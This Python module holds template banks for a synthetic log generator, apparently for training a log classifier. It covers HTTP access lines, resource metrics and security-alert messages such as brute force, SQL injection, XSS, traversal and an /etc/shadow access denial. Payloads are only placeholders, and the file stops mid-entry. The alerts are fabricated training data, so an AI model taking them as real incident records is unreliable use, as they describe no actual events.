"""Template banks for the synthetic log generator.

Each label has a ``LabelSpec``: its share of generated rows, the sources it is
drawn from (with relative weights) and its templates. A template is a tuple
``(name, format_string)`` or ``(name, format_string, pinned_sources)``; the
format string uses named slots (``{ip}``, ``{uuid}``, ...) that
``training.logs.generator`` fills with realistic values. A slot name followed by
``_2``/``_3`` draws a second independent value of the same kind; a slot that
appears twice in one template gets the same value both times.

Template names are part of the public ``template_id`` (``"<slug>/<name>"``), so
rename them only deliberately.

Evaluation holds out whole templates, so a label is only learnable if its
concept appears in many formats: every model-tier label has templates in each
family where it plausibly occurs (plain sentence, terse lowercase, key=value,
JSON, syslog/systemd/kernel prefix, bracketed component, access/request line),
and no format belongs to one label alone. JSON templates carry a readable
message field because ``template_key`` masks quoted single tokens (JSON keys
included). The label boundaries the banks keep consistently:

- System Notification: what the platform did by itself (deploys, scheduled jobs,
  image pulls, reports sent on a schedule, cron); User Action: what a named
  person did in the product.
- Critical Error: a process, host, cluster or data set is gone (crash, core
  dump, fatal runtime error, kernel panic, data loss); Error: one request, job
  or operation failed and the system carries on.
- Security Alert: an attack, abuse or policy violation (not an ordinary sign-in
  or settings change); HTTP Status: a request and its status code.
"""

from __future__ import annotations

from dataclasses import dataclass, field

Template = tuple[str, str] | tuple[str, str, tuple[str, ...]]

CLOUD = ("ComputeCloud",)
BILLING = ("BillingSystem",)
HR = ("ModernHR",)
CRM = ("ModernCRM",)
ANALYTICS = ("AnalyticsEngine",)
PARTNER = ("ThirdPartyAPI",)
LEGACY = ("LegacyCRM",)

# Common OpenStack request context: [req-<uuid> <user hex32> <tenant hex32> - - -]
_NOVA_CTX = "[{req_id} {hex32} {tenant} - - -]"


@dataclass(frozen=True)
class LabelSpec:
    label: str
    slug: str
    share: float
    sources: dict[str, float]
    templates: list[Template]
    # Fixed, simple patterns that a regex tier can match exactly.
    regex_templates: list[Template] = field(default_factory=list)


HTTP_STATUS = LabelSpec(
    label="HTTP Status",
    slug="http_status",
    share=0.22,
    sources={"ThirdPartyAPI": 3, "ComputeCloud": 3, "ModernCRM": 2.5, "ModernHR": 1,
             "BillingSystem": 1, "AnalyticsEngine": 0.5},
    templates=[
        ("nova_servers_detail",
         "nova.osapi_compute.wsgi.server " + _NOVA_CTX + ' {ip_internal} '
         '"GET /v2/{tenant}/servers/detail HTTP/1.1" status: {status} len: {resp_len} '
         "time: {resp_time}", CLOUD),
        ("nova_server_show",
         "nova.osapi_compute.wsgi.server " + _NOVA_CTX + ' {ip_internal} '
         '"GET /v2/{tenant}/servers/{uuid} HTTP/1.1" status: {status} len: {resp_len} '
         "time: {resp_time}", CLOUD),
        ("nova_external_events",
         "nova.osapi_compute.wsgi.server " + _NOVA_CTX + ' {ip_internal} '
         '"POST /v2/{tenant}/os-server-external-events HTTP/1.1" status: {status} '
         "len: {resp_len} time: {resp_time}", CLOUD),
        ("nova_server_delete",
         "nova.osapi_compute.wsgi.server " + _NOVA_CTX + ' {ip_internal} '
         '"DELETE /v2/{tenant}/servers/{uuid} HTTP/1.1" status: {status} len: {resp_len} '
         "time: {resp_time}", CLOUD),
        ("nova_metadata",
         "nova.metadata.wsgi.server [{req_id} - - - - -] {ip_internal},{ip_internal_2} "
         '"GET {metadata_path} HTTP/1.1" status: {status} len: {resp_len} time: {resp_time}',
         CLOUD),
        ("neutron_ports",
         "neutron.wsgi " + _NOVA_CTX + ' {ip_internal} "GET /v2.0/ports.json?device_id={uuid} '
         'HTTP/1.1" status: {status}  len: {resp_len} time: {resp_time}', CLOUD),
        ("apache_combined",
         '{ip} - - [{apache_time}] "{method} {http_path} HTTP/1.1" {status} {resp_len} '
         '"-" "{user_agent}"'),
        ("apache_common_user",
         '{ip} - {user_login} [{apache_time}] "{method} {http_path} HTTP/1.0" {status} '
         "{resp_len}"),
        ("nginx_timed",
         '{ip} - - [{apache_time}] "{method} {http_path} HTTP/2.0" {status} {resp_len} '
         '"{referer}" "{user_agent}" rt={resp_time_short} uct="0.000" urt="{resp_time_short}"'),
        ("kv_request",
         "method={method} path={http_path} status={status} duration_ms={duration_ms}"),
        ("logfmt_request",
         'level=info ts={iso_time} caller=http.go:{lineno} msg="request completed" '
         "method={method} uri={http_path} code={status} size={resp_len} took={duration_ms}ms"),
        ("json_access",
         '{{"remote_addr": "{ip}", "method": "{method}", "path": "{http_path}", '
         '"status": {status}, "bytes": {resp_len}, "latency_ms": {duration_ms}}}'),
        ("request_returned", "Request to {http_path} returned {status}"),
        ("arrow_summary", "{method} {url} -> {status} ({duration_ms} ms)"),
        ("http_phrase_for", "HTTP {status_phrase} returned for {method} {http_path}"),
        ("service_responded",
         "[{service}] {method} {http_path} responded {status} in {duration_ms}ms"),
        ("outbound_partner",
         "Outbound call to {partner_api} {method} {partner_path} completed with HTTP {status} "
         "({resp_len} bytes)", PARTNER + BILLING + CRM),
        ("webhook_response",
         "Webhook delivery to {url} got response code {status} after {duration_ms} ms",
         PARTNER + BILLING + CRM),
        ("gateway_upstream_kv",
         "gateway: route={http_path} upstream={service} upstream_status={status_5xx} "
         "client={ip}"),
        ("gateway_proxied",
         "API Gateway: {method} {http_path} proxied to {service}:{service_port}, upstream status "
         "{status}, total {duration_ms} ms"),
        ("spring_completed",
         "{iso_time} INFO {pid} --- [{thread}] o.s.web.servlet.DispatcherServlet : "
         "Completed {status_phrase}"),
        ("gin_access",
         '[GIN] {gin_time} | {status} | {duration_human_ms} | {ip} | {method} "{http_path}"'),
        ("uvicorn_access",
         'INFO:     {ip}:{port} - "{method} {http_path} HTTP/1.1" {status_phrase}'),
        ("django_runserver",
         '[{django_time}] "{method} {http_path} HTTP/1.1" {status} {resp_len}'),
        ("iis_w3c",
         "{date_plain} {hms} {ip_internal} {method} {http_path_noquery} - 443 - {ip} "
         "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) {status} 0 0 {duration_ms}"),
        ("aws_alb",
         "https {iso_time} app/{lb_name}/{hex16} {ip}:{port} {ip_internal}:{service_port} 0.001 "
         '{resp_time_short} 0.000 {status} {status} {req_bytes} {resp_len} "{method} '
         'https://{domain}:443{http_path} HTTP/1.1" "{user_agent}"'),
        ("terse_resp", "resp {status} {method_lower} {http_path} {duration_ms}ms"),
        ("partner_phrase",
         "Received {status_phrase} from {partner_api} for {partner_path}", PARTNER),
        ("status_line_client",
         "HTTP/1.1 {status_phrase} - {method} {http_path} - client {ip}"),
        ("health_endpoint",
         "Health endpoint http://{hostname}:{service_port}/healthz answered {status_phrase}"),
        ("redirect", "Redirecting {method} {http_path} to {redirect_path} ({status_3xx})"),
        ("too_many_requests",
         "Responded 429 Too Many Requests to {method} {http_path} for client {client_id}"),
        ("envoy_access",
         '[{iso_time}] "{method} {http_path} HTTP/1.1" {status} - 0 {resp_len} {duration_ms} '
         '{duration_ms_2} "{ip}" "{user_agent}" "{uuid}" "{domain}" '
         '"{ip_internal}:{service_port}"'),
        ("haproxy",
         "haproxy[{pid}]: {ip}:{port} [{haproxy_time}] https-in~ be_{service}/srv{small_n} "
         '0/0/1/{duration_ms}/{duration_ms} {status} {resp_len} - - ---- 12/12/3/1/0 0/0 '
         '"{method} {http_path} HTTP/1.1"'),
        ("client_error_body",
         "{status_4xx} client error for {method} {http_path}: "
         '{{"error": "{api_error_code}", "request_id": "{uuid}"}}'),
        # --- JSON access logs (several frameworks and proxies)
        ("json_nginx_access",
         '{{"time": "{iso_time}", "remote_addr": "{ip}", "request": "{method} {http_path} '
         'HTTP/1.1", "status": {status}, "body_bytes_sent": {resp_len}, "request_time": '
         '{resp_time_short}, "http_user_agent": "{user_agent}"}}'),
        ("json_pino_request",
         '{{"level": 30, "time": {epoch_ms}, "pid": {pid}, "hostname": "{hostname_short}", '
         '"req": {{"method": "{method}", "url": "{http_path}"}}, "res": {{"statusCode": '
         '{status}}}, "responseTime": {duration_ms}, "msg": "request completed"}}'),
        ("json_otel_http",
         '{{"name": "{method} {http_path_noquery}", "http.request.method": "{method}", '
         '"url.path": "{http_path_noquery}", "http.response.status_code": {status}, '
         '"client.address": "{ip}", "duration_ms": {duration_ms}}}'),
        ("json_caddy",
         '{{"level": "info", "ts": {epoch_float}, "logger": "http.log.access", "msg": '
         '"handled request", "request": {{"remote_ip": "{ip}", "method": "{method}", "uri": '
         '"{http_path}"}}, "status": {status}, "size": {resp_len}, "duration": '
         "{resp_time_short}}}"),
        # --- key=value access logs
        ("kv_heroku_router",
         'at=info method={method} path="{http_path}" host={domain} request_id={uuid} '
         'fwd="{ip}" dyno=web.{small_n} connect={small_n_2}ms service={duration_ms}ms '
         "status={status} bytes={resp_len} protocol=https"),
        ("kv_go_request",
         'level=info msg="http request served" remote={ip}:{port} proto=HTTP/1.1 '
         "verb={method} url={http_path} status={status} bytes={resp_len} "
         "elapsed={duration_ms}ms"),
        ("kv_http_client",
         "http_client host={domain} method={method} path={http_path_noquery} "
         "status_code={status} retries=0 latency_ms={duration_ms}"),
        # --- framework and proxy access formats
        ("morgan_dev", "{method} {http_path} {status} {duration_human_ms} ms - {resp_len}"),
        ("rails_completed",
         "Completed {status_phrase} in {duration_ms}ms (Views: {small_n}.{small_n_2}ms | "
         "ActiveRecord: {duration_ms_2}.{small_n_3}ms | Allocations: {record_count})"),
        ("werkzeug_access",
         '{ip} - - [{django_time}] "{method} {http_path} HTTP/1.1" {status} -'),
        ("aspnet_request_finished",
         "info: Microsoft.AspNetCore.Hosting.Diagnostics[2] Request finished HTTP/1.1 "
         "{method} https://{domain}{http_path} - {status} {resp_len} application/json "
         "{duration_human_ms}ms"),
        ("fiber_access",
         "{hms} | {status} | {duration_human_ms}ms | {ip} | {method} | {http_path} | -"),
        ("traefik_clf",
         '{ip} - - [{apache_time}] "{method} {http_path} HTTP/2.0" {status} {resp_len} "-" '
         '"-" {record_count} "{service}@docker" "http://{ip_internal}:{service_port}" '
         "{duration_ms}ms"),
        ("k8s_ingress_nginx",
         '{ip} - - [{apache_time}] "{method} {http_path} HTTP/1.1" {status} {resp_len} '
         '"{referer}" "{user_agent}" {req_bytes} {resp_time_short} '
         "[{namespace}-{service}-{service_port}] [] {ip_internal}:{service_port} {resp_len} "
         "{resp_time_short} {status} {hex32}"),
        ("urllib3_debug",
         'urllib3.connectionpool: https://{domain}:443 "{method} {http_path} HTTP/1.1" '
         "{status} {resp_len}"),
        ("okhttp_response",
         "<-- {status_phrase} https://{domain}{http_path} ({duration_ms}ms, {resp_len}-byte "
         "body)"),
        ("apigw_method_completed",
         "({uuid}) Method completed with status: {status}"),
        ("squid_access",
         "{epoch}.{small_n}{small_n_2}{small_n_3} {duration_ms} {ip_internal} "
         "TCP_MISS/{status} {resp_len} {method} https://{domain}{http_path_noquery} - "
         "HIER_DIRECT/{ip} application/json"),
        ("cloudfront_access",
         "{date_plain} {hms} FRA56-C{small_n} {resp_len} {ip} {method} "
         "d{hex8}.cloudfront.net {http_path_noquery} {status} {referer} curl/8.5.0 - - "
         "Miss {hex16} {domain} https {req_bytes} {resp_time_short}"),
        ("apache_vhost",
         '{domain}:443 {ip} - - [{apache_time}] "{method} {http_path} HTTP/1.1" {status} '
         '{resp_len} "{referer}" "{user_agent}"'),
        # --- syslog-prefixed access lines
        ("syslog_nginx_access",
         '{syslog_time} {hostname_short} nginx: {ip} - - [{apache_time}] "{method} '
         '{http_path} HTTP/1.1" {status} {resp_len} "{referer}" "{user_agent}"'),
        ("syslog_app_request",
         "{syslog_time} {hostname_short} {service}[{pid}]: {method} {http_path} {status} "
         "{duration_ms}ms"),
        # --- bracketed component prefix
        ("bracket_access",
         '[access] {ip} "{method} {http_path}" {status_phrase} {resp_len}B'),
        ("bracket_ingress",
         "[ingress] host={domain} {method} {http_path} -> {status} upstream={service} "
         "{duration_ms}ms"),
        # --- plain sentences and terse lines
        ("client_received",
         "Client {ip} received HTTP {status} for {method} {http_path} after {duration_ms} ms"),
        ("server_answered", "The server answered {method} {http_path} with {status_phrase}"),
        ("terse_http", "{method_lower} {http_path} {status} {resp_len}b {duration_ms}ms"),
        ("terse_status_first", "{status} <- {method_lower} {http_path_noquery} ({duration_ms}ms)"),
        ("json_express_winston",
         '{{"level": "info", "message": "HTTP {method} {http_path}", "meta": {{"res": '
         '{{"statusCode": {status}}}, "responseTime": {duration_ms}}}}}'),
        ("json_aspnet_console",
         '{{"EventId": 2, "LogLevel": "Information", "Category": '
         '"Microsoft.AspNetCore.Hosting.Diagnostics", "Message": "Request finished HTTP/1.1 '
         '{method} https://{domain}{http_path} - {status} {resp_len} application/json '
         '{duration_human_ms}ms"}}'),
        ("json_structlog_access",
         '{{"event": "request finished", "method": "{method}", "path": "{http_path}", '
         '"status_code": {status}, "duration_ms": {duration_ms}}}'),
    ],
)

RESOURCE_USAGE = LabelSpec(
    label="Resource Usage",
    slug="resource_usage",
    share=0.14,
    sources={"ComputeCloud": 4, "AnalyticsEngine": 3, "BillingSystem": 1, "ModernCRM": 1,
             "ThirdPartyAPI": 0.5, "ModernHR": 0.5},
    templates=[
        ("nova_total_memory",
         "nova.compute.claims " + _NOVA_CTX + " [instance: {uuid}] Total memory: "
         "{host_mem_mb} MB, used: {used_mem_mb}.00 MB", CLOUD),
        ("nova_memory_limit",
         "nova.compute.claims " + _NOVA_CTX + " [instance: {uuid}] memory limit: "
         "{mem_limit_mb}.00 MB, free: {mem_free_mb}.00 MB", CLOUD),
        ("nova_total_disk",
         "nova.compute.claims " + _NOVA_CTX + " [instance: {uuid}] Total disk: "
         "{host_disk_gb} GB, used: {used_disk_gb}.00 GB", CLOUD),
        ("nova_disk_unlimited",
         "nova.compute.claims " + _NOVA_CTX + " [instance: {uuid}] disk limit not "
         "specified, defaulting to unlimited", CLOUD),
        ("nova_total_vcpu",
         "nova.compute.claims " + _NOVA_CTX + " [instance: {uuid}] Total vcpu: "
         "{host_vcpus} VCPU, used: {used_vcpus}.00 VCPU", CLOUD),
        ("nova_vcpu_unlimited",
         "nova.compute.claims " + _NOVA_CTX + " [instance: {uuid}] vcpu limit not "
         "specified, defaulting to unlimited", CLOUD),
        ("nova_attempting_claim",
         "nova.compute.claims " + _NOVA_CTX + " [instance: {uuid}] Attempting claim: "
         "memory {flavor_mem_mb} MB, disk {flavor_disk_gb} GB, vcpus {flavor_vcpus} CPU",
         CLOUD),
        ("nova_claim_successful",
         "nova.compute.claims " + _NOVA_CTX + " [instance: {uuid}] Claim successful", CLOUD),
        ("nova_final_view",
         "nova.compute.resource_tracker [{req_id} - - - - -] Final resource view: "
         "name={node} phys_ram={host_mem_mb}MB used_ram={used_mem_mb}MB "
         "phys_disk={host_disk_gb}GB used_disk={used_disk_gb}GB total_vcpus={host_vcpus} "
         "used_vcpus={used_vcpus} pci_stats=[]", CLOUD),
        ("nova_auditing",
         "nova.compute.resource_tracker [{req_id} - - - - -] Auditing locally available "
         "compute resources for node {node}", CLOUD),
        ("nova_usable_vcpus",
         "Total usable vcpus: {host_vcpus}, total allocated vcpus: {used_vcpus}", CLOUD),
        ("cpu_threshold",
         "CPU usage on {hostname} at {pct_high}% (alert threshold {threshold}%)"),
        ("memory_fraction",
         "Memory utilization on {hostname}: {mem_used_gb}/{mem_total_gb} GiB in use"),
        ("disk_kv",
         "metric=disk_usage host={hostname} mount={mount} used_pct={pct} "
         "free_gb={disk_free_gb}"),
        ("jvm_heap",
         "[gc-monitor] heap after GC: {mem_used_mb}M of {mem_max_mb}M committed, "
         "old gen {pct}% full"),
        ("hikari_pool",
         "HikariPool-{small_n} - Pool stats (total={pool_total}, active={pool_active}, "
         "idle={pool_idle}, waiting={pool_waiting})"),
        ("queue_depth",
         "Queue {queue} depth is {queue_depth} messages (warning level {queue_limit})"),
        ("load_average",
         "WARN resource-monitor: {hostname} load average {load}, {load_2}, {load_3}"),
        ("disk_space_low",
         "Disk space low on {mount} ({hostname}): {pct_high}% used, {disk_free_gb} GB left"),
        ("container_top",
         "container {container} cpu={millicores}m/{millicores_limit}m "
         "mem={mem_used_mb}Mi/{mem_max_mb}Mi"),
        ("json_sample",
         '{{"event": "resource_sample", "host": "{hostname}", "cpu_pct": {pct}, '
         '"mem_pct": {pct_2}, "disk_pct": {pct_3}}}'),
        ("spark_executor",
         "Executor {small_n} on {hostname}: storage memory {mem_used_mb} MB / "
         "{mem_max_mb} MB, {cores} cores busy", ANALYTICS),
        ("db_connections",
         "Database {db} has {pool_active} active connections (max_connections={conn_max})"),
        ("thread_pool",
         "Thread pool '{pool_name}' saturated: {threads_max}/{threads_max} workers busy, "
         "{queue_depth} tasks waiting"),
        ("network_throughput",
         "Network throughput on {iface} of {hostname} reached {mbps} Mbps on a 10 Gbps link"),
        ("tenant_quota",
         "Tenant {tenant} quota usage: instances {small_n}/20, cores {cores}/64, "
         "ram {used_mem_mb}/{host_mem_mb} MB", CLOUD),
        ("terse_sample", "mem {pct}% cpu {pct_2}% swap {pct_3}% {hostname_short}"),
        ("bucket_storage",
         "Storage bucket {bucket} now holds {storage_tb} TB ({pct}% of allocated quota)"),
        ("volume_iops",
         "IOPS on volume {volume_id} averaged {iops} over 5m (provisioned {iops_limit})"),
        ("redis_info",
         "redis {hostname_short}:6379 used_memory={mem_used_mb}MB maxmemory={mem_max_mb}MB "
         "evicted_keys={record_count} connected_clients={pool_active}"),
        # --- JSON samples and alerts
        ("json_container_mem",
         '{{"level": "warn", "msg": "container memory usage above 80% of limit", "pod": '
         '"{container}", "used_mi": {mem_used_mb}, "limit_mi": {mem_max_mb}}}'),
        ("json_disk_alert",
         '{{"alert": "DiskUsageHigh", "summary": "disk usage on {mount} is above '
         '{threshold}%", "host": "{hostname}", "used_pct": {pct_high}}}'),
        ("json_cpu_throttle",
         '{{"level": "warn", "msg": "cpu throttling", "container": "{container}", '
         '"throttled_pct": {pct}, "quota_millicores": {millicores_limit}}}'),
        ("json_db_pool",
         '{{"msg": "connection pool statistics", "pool": "{pool_name}", "active": '
         '{pool_active}, "idle": {pool_idle}, "max": {pool_total}, "waiting": {pool_waiting}}}'),
        ("json_cloudwatch",
         '{{"AlarmName": "{service}-cpu-high", "NewStateValue": "ALARM", "NewStateReason": '
         '"Threshold Crossed: 1 datapoint [{pct_high}] was greater than the threshold '
         '({threshold}.0)", "MetricName": "CPUUtilization"}}'),
        # --- key=value and line protocols
        ("kv_mem",
         "host={hostname_short} mem_used={mem_used_gb}G mem_total={mem_total_gb}G "
         "swap_used={mem_used_mb}M"),
        ("influx_cpu",
         "cpu,host={hostname_short},cpu=cpu-total usage_user={pct},usage_system={pct_2},"
         "usage_idle={pct_3} {epoch}000000000"),
        ("kv_gc_pause",
         "gc pause={duration_ms}ms heap_used={mem_used_mb}M heap_max={mem_max_mb}M "
         "collector=G1"),
        ("kv_consumer_lag",
         "level=warn component=consumer topic={topic} lag={queue_depth} consumers={small_n}"),
        ("logfmt_snapshot",
         'level=info ts={iso_time} msg="resource snapshot" cpu_cores_used={cores} '
         "mem_rss_mb={mem_used_mb} open_fds={fds} goroutines={goroutines}"),
        # --- syslog / systemd / kubelet
        ("collectd_df",
         "{syslog_time} {hostname_short} collectd[{pid}]: df: {mount} is {pct}% full "
         "({disk_free_gb} GB free)"),
        ("systemd_consumed",
         "systemd[1]: {service}.service: Consumed {seconds}.{small_n}s CPU time, "
         "{mem_used_mb}M memory peak."),
        ("kubelet_pressure",
         "kubelet[{pid}]: node {hostname_short} reports MemoryPressure=True "
         "({pct_high}% of allocatable memory in use)"),
        ("es_disk_watermark",
         "[o.e.c.r.a.DiskThresholdMonitor] [{hostname_short}] high disk watermark [90%] "
         "exceeded on [{hostname_short}], free: {disk_free_gb}gb[{pct}%]"),
        # --- bracketed component prefix
        ("bracket_metrics",
         "[metrics] {service}: cpu {pct}% over 5m, memory {mem_used_mb}MiB/{mem_max_mb}MiB"),
        ("bracket_autoscaler_cpu",
         "[autoscaler] {service} average CPU {pct}% across {small_n} replicas (target "
         "{threshold}%)"),
        ("bracket_disk_watch",
         "[disk-watch] /dev/{disk_dev} on {mount}: {pct}% used, {disk_free_gb} GB free"),
        ("bracket_api_quota",
         "[quota] tenant {tenant_name} used {record_count} of {quota} API calls this month"),
        # --- plain sentences
        ("process_memory",
         "Memory usage of process {pid} ({proc_name}) is {mem_used_mb} MB, {pct}% of the "
         "container limit"),
        ("swap_usage",
         "Swap usage on {hostname} rose to {pct}% over the last {minutes} minutes"),
        ("inode_usage",
         "Inode usage on {mount} at {pct_high}% ({record_count} inodes free)"),
        ("avg_cpu_hour",
         "Average CPU utilisation for {service} was {pct}% over the last hour"),
        ("open_fds",
         "Open file descriptors for {proc_name}: {fds} of {fds_limit} in use"),
        ("gpu_util",
         "GPU {small_n} on {hostname}: utilisation {pct}%, memory {mem_used_mb}/{mem_max_mb} "
         "MiB", ANALYTICS + CLOUD),
        ("heap_pct",
         "Heap usage of {service} at {pct_high}% of -Xmx{mem_max_mb}m after full GC"),
        ("pg_connections",
         "postgres: {pool_active} of {conn_max} connections in use on {db} ({pct}%)"),
        # --- tool output and terse lines
        ("top_mem_header",
         "MiB Mem : {host_mem_mb}.0 total, {mem_free_mb}.0 free, {used_mem_mb}.0 used, "
         "{mem_used_mb}.0 buff/cache"),
        ("terse_disk", "disk {mount} {pct}% used on {hostname_short}"),
        ("terse_load", "{hostname_short}: load {load} mem {mem_used_gb}G/{mem_total_gb}G"),
        ("json_memory_sample",
         '{{"message": "memory usage sample", "host": "{hostname}", "used_gb": {mem_used_gb}, '
         '"total_gb": {mem_total_gb}}}'),
    ],
)

SECURITY_ALERT = LabelSpec(
    label="Security Alert",
    slug="security_alert",
    share=0.14,
    sources={"ModernHR": 2, "ModernCRM": 2, "BillingSystem": 2, "ThirdPartyAPI": 2,
             "ComputeCloud": 2, "AnalyticsEngine": 1},
    templates=[
        ("sshd_invalid_user_password",
         "sshd[{pid}]: Failed password for invalid user {bad_user} from {ip} port {port} ssh2"),
        ("sshd_failed_password",
         "{hostname_short} sshd[{pid}]: Failed password for {unix_user} from {ip} "
         "port {port} ssh2"),
        ("sshd_invalid_user",
         "sshd[{pid}]: Invalid user {bad_user} from {ip} port {port}"),
        ("pam_auth_failure",
         "sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 "
         "tty=ssh ruser= rhost={ip}  user={unix_user}"),
        ("brute_force",
         "Possible brute-force attack: {attempts} failed logins for account {user_login} "
         "from {ip} within {minutes} minutes"),
        ("multiple_login_failures",
         "Multiple failed login attempts ({attempts}) detected for user ID {user_id}"),
        ("privilege_escalation_group",
         "Privilege escalation detected: user {user_login} added themselves to group "
         "'{admin_group}'"),
        ("sudo_not_in_sudoers",
         "sudo: {shell_user} : user NOT in sudoers ; TTY=pts/{small_n} ; "
         "PWD=/home/{shell_user} ; USER=root ; COMMAND={command}"),
        ("unusual_location",
         "Sign-in for {email} from unusual location {geo} (IP {ip}); last seen in {geo_2}"),
        ("impossible_travel",
         "Impossible travel alert: user {user_id} authenticated from {geo} and {geo_2} "
         "within {minutes} minutes"),
        ("firewall_blocked",
         "Firewall blocked {attempts} connection attempts from {ip} to port {sensitive_port}"),
        ("ufw_block",
         "kernel: [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST={ip_internal} LEN=44 TTL=239 "
         "PROTO=TCP SPT={port} DPT={sensitive_port} WINDOW=1024 SYN URGP=0"),
        ("fail2ban_ban", "fail2ban.actions [{pid}]: NOTICE [{jail}] Ban {ip}"),
        ("api_key_foreign_ip",
         "API key {api_key} used from unrecognised IP {ip} for {http_path}; key is "
         "restricted to {ip_internal}"),
        ("api_key_pattern",
         "Suspicious usage of API key {api_key}: {record_count} requests in {minutes} min "
         "from {small_n} countries"),
        ("tls_fingerprint_mismatch",
         "Certificate presented by {ip} for {domain} does not match pinned fingerprint "
         "{fingerprint}; possible man-in-the-middle"),
        ("untrusted_client_cert",
         "Rejected mTLS client {ip}: certificate issued by untrusted CA '{bad_ca}'"),
        ("waf_sqli",
         "WAF rule {waf_rule} triggered: SQL injection attempt in parameter '{param}' "
         "from {ip}"),
        ("xss_blocked",
         "Blocked request from {ip}: cross-site scripting payload detected in {http_path}"),
        ("path_traversal",
         'Directory traversal attempt: {ip} requested "{traversal_path}"'),
        ("port_scan",
         "IDS: port scan detected from {ip} ({record_count} ports probed in {seconds}s)"),
        ("suricata_alert",
         "[**] [1:{sid}:3] ET SCAN Suspicious inbound to {db_engine} port [**] "
         "[Classification: Potentially Bad Traffic] [Priority: 2] {{TCP}} {ip}:{port} -> "
         "{ip_internal}:{db_port}"),
        ("account_locked",
         "Account {user_login} locked after {fail_count} consecutive authentication failures"),
        ("unauthorized_read",
         "Unauthorized attempt to read {sensitive_resource} by user {user_id} "
         "(role={role}) was denied"),
        ("auth_failure_kv",
         "event=auth_failure user={user_login} src_ip={ip} reason=invalid_credentials "
         "mfa=false count={attempts}"),
        ("token_replay_json",
         '{{"alert": "token_replay", "severity": "high", "user_id": {user_id}, '
         '"ip": "{ip}", "detail": "refresh token reused after revocation"}}'),
        ("mfa_failed",
         "MFA challenge failed {fail_count} times for {email}; session terminated"),
        ("malware_quarantine",
         "Antivirus quarantined {malware} in upload {file_name} from user {user_id}"),
        ("data_exfiltration",
         "Anomalous data export: {user_login} downloaded {record_count} records in "
         "{minutes} minutes (baseline {small_n}00)"),
        ("windows_4625",
         "EventID=4625 An account failed to log on. Account Name: {user_login} Failure "
         "Reason: Unknown user name or bad password. Source Network Address: {ip} "
         "Logon Type: 3"),
        ("jwt_signature",
         "Rejected JWT with invalid signature for subject {user_id} from {ip} "
         "(alg={jwt_alg})"),
        ("terse_auth_fail", "auth fail user={bad_user} ip={ip} x{attempts}"),
        ("root_login_refused", "ROOT LOGIN REFUSED FROM {ip} port {port}"),
        ("admin_role_granted",
         "Admin privileges granted to account {user_id} outside change window by "
         "{user_login}; no approval ticket found"),
        ("denylisted_ip_login",
         "Login blocked: {ip} is on the threat-intelligence denylist (attempted user "
         "{user_login})"),
        ("session_hijack",
         "Possible session hijacking: session {req_short} of user {user_id} reused from a new "
         "device and IP {ip}"),
        ("password_spraying",
         "Password spraying detected from {ip}: {record_count} accounts tried with the same "
         "password"),
        ("tor_token_created",
         "Admin API token created from Tor exit node {ip} for account {user_id}"),
        ("disabled_account_auth",
         "Disabled account {user_login} attempted to authenticate via {idp}"),
        ("file_integrity",
         "File integrity monitor on {hostname}: /etc/passwd modified outside of change "
         "management"),
        ("wazuh_rule",
         "wazuh: Rule {sid} (level 10) fired on {hostname_short}: repeated authentication "
         "failures from {ip}"),
        # --- JSON alerts (cloud detectors, WAF, runtime security, SIEM)
        ("json_guardduty",
         '{{"type": "{guardduty_type}", "title": "{guardduty_title}", "severity": {small_n}, '
         '"resource": "{instance_id}", "remoteIp": "{ip}"}}', CLOUD),
        ("json_aws_waf_block",
         '{{"action": "BLOCK", "ruleName": "{waf_rule_name}", "clientIp": "{ip}", "uri": '
         '"{http_path_noquery}", "country": "{cc}"}}'),
        ("json_falco",
         '{{"priority": "Warning", "rule": "{falco_rule}", "output": "{falco_rule} '
         '(user=root container={container} proc={proc_name})"}}'),
        ("json_impossible_travel",
         '{{"alert": "impossible_travel", "msg": "sign-ins from two distant countries", '
         '"user": "{email}", "from": "{geo}", "to": "{geo_2}", "minutes": {minutes}}}'),
        ("json_siem_failed_logins",
         '{{"rule": "Multiple failed logins", "level": "high", "src_ip": "{ip}", "user": '
         '"{user_login}", "failures": {attempts}}}'),
        ("json_jwt_invalid",
         '{{"level": "warn", "msg": "jwt verification failed", "reason": "signature mismatch", '
         '"sub": "{user_id}", "ip": "{ip}"}}'),
        ("json_cloudtrail_escalation",
         '{{"eventName": "AttachUserPolicy", "userIdentity": {{"userName": "{user_login}"}}, '
         '"policyArn": "arn:aws:iam::aws:policy/AdministratorAccess", "sourceIPAddress": '
         '"{ip}", "finding": "administrator policy attached outside the change process"}}',
         CLOUD),
        # --- kernel and firewall
        ("iptables_drop",
         "kernel: [{uptime}] IPTABLES-DROP: IN={iface} OUT= SRC={ip} DST={ip_internal} "
         "PROTO=TCP SPT={port} DPT={sensitive_port}"),
        ("asa_deny",
         "%ASA-4-106023: Deny tcp src outside:{ip}/{port} dst inside:{ip_internal}/"
         '{sensitive_port} by access-group "outside_access_in"'),
        ("apparmor_denied",
         'kernel: audit: type=1400 apparmor="DENIED" operation="open" '
         'profile="{apparmor_profile}" name="/etc/shadow" pid={pid} comm="{proc_name}"'),
        # --- sudo / su / pam / sshd
        ("sudo_incorrect_password",
         "sudo: {shell_user} : {small_n} incorrect password attempts ; TTY=pts/{small_n_2} ; "
         "PWD=/home/{shell_user} ; USER=root ; COMMAND={command}"),
        ("su_failed", "su[{pid}]: FAILED SU (to root) {shell_user} on pts/{small_n}"),
        ("pam_faillock",
         "sshd[{pid}]: pam_faillock(sshd:auth): Consecutive login failures for user "
         "{unix_user} account temporarily locked"),
        ("sshd_max_auth",
         "sshd[{pid}]: error: maximum authentication attempts exceeded for invalid user "
         "{bad_user} from {ip} port {port} ssh2 [preauth]"),
        # --- request-based attacks (SQLi, XSS, traversal, SSRF, injection, scanners)
        ("modsecurity_sqli",
         "ModSecurity: Access denied with code 403 (phase 2). [id \"{waf_rule}\"] "
         '[msg "SQL Injection Attack Detected via libinjection"] [uri "{http_path_noquery}"] '
         "[client {ip}]"),
        ("waf_sqli_request_line",
         'WAF BLOCK {ip} "GET {sqli_path} HTTP/1.1" rule={waf_rule} (SQL injection)'),
        ("waf_xss_bracket",
         '[waf] blocked XSS payload "{xss_payload}" in query parameter {param} from {ip}'),
        ("lfi_kv",
         'event=lfi_attempt src={ip} uri="{traversal_path}" action=blocked rule=LFI-{small_n}'),
        ("traversal_access_flagged",
         '{ip} - - [{apache_time}] "GET {traversal_path} HTTP/1.1" 403 {resp_len} '
         "- flagged: directory traversal"),
        ("ssrf_blocked",
